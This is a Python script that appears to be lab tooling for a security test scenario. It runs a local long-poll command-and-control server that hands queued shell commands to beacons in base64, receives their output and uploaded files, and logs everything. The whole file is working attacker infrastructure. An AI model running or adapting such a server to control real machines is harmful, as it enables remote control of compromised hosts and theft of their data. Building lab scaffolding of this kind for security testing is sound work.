#!/usr/bin/env python3
"""Lab tooling: the attacker's long-poll C2 of scenario-kb-preview (runs as
labremote on 127.0.0.1).

GET /lp/<beacon> is held until a task file appears in --queue (the driver
writes them, names sort in order), then answered 200 with the task's command
base64-encoded; after --hold seconds with none it is answered 204. POST
/r/<beacon> is a task's output, /r/<beacon>/<name> an upload: logged
(first 3000 bytes) to --log with the time; --log.count gets a line per
task output (the driver waits on it). Every task
sent and every output received is logged. Stops by itself after --lifetime.

  kbprev-c2.py --port 8443 --queue DIR --log FILE [--hold 30] [--lifetime 900]
"""
import argparse
import base64
import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--queue", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--hold", type=float, default=30)
    p.add_argument("--lifetime", type=float, default=900)
    a = p.parse_args()
    os.makedirs(a.queue, exist_ok=True)
    lock = threading.Lock()

    def note(s):
        with lock, open(a.log, "a") as fh:
            fh.write("%s %s\n" % (time.strftime("%H:%M:%S"), s))

    def next_task():
        with lock:
            names = sorted(n for n in os.listdir(a.queue) if not n.startswith("."))
            if not names:
                return None
            path = os.path.join(a.queue, names[0])
            cmd = open(path, "rb").read()
            os.rename(path, os.path.join(a.queue, "." + names[0]))
            return cmd

    class H(BaseHTTPRequestHandler):
        def log_message(self, fmt, *args):
            pass

        def do_GET(self):
            if not self.path.startswith("/lp/"):
                self.send_error(404)
                return
            end = time.time() + a.hold
            cmd = None
            while time.time() < end:
                cmd = next_task()
                if cmd is not None:
                    break
                time.sleep(0.2)
            if cmd is None:
                self.send_response(204)
                self.end_headers()
                return
            body = base64.b64encode(cmd)
            note("task -> %s: %s" % (self.path[4:], cmd.decode(errors="replace")))
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n) if n else b""
            note("output <- %s (%d bytes):\n%s" % (self.path, len(body), body.decode(errors="replace")[:3000]))
            if self.path.count("/") == 2:  # /r/<beacon>: a task's output (not a named upload)
                with open(a.log + ".count", "a") as fh:
                    fh.write("x\n")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

    srv = ThreadingHTTPServer(("127.0.0.1", a.port), H)
    srv.daemon_threads = True
    threading.Timer(a.lifetime, srv.shutdown).start()
    srv.serve_forever()


if __name__ == "__main__":
    main()
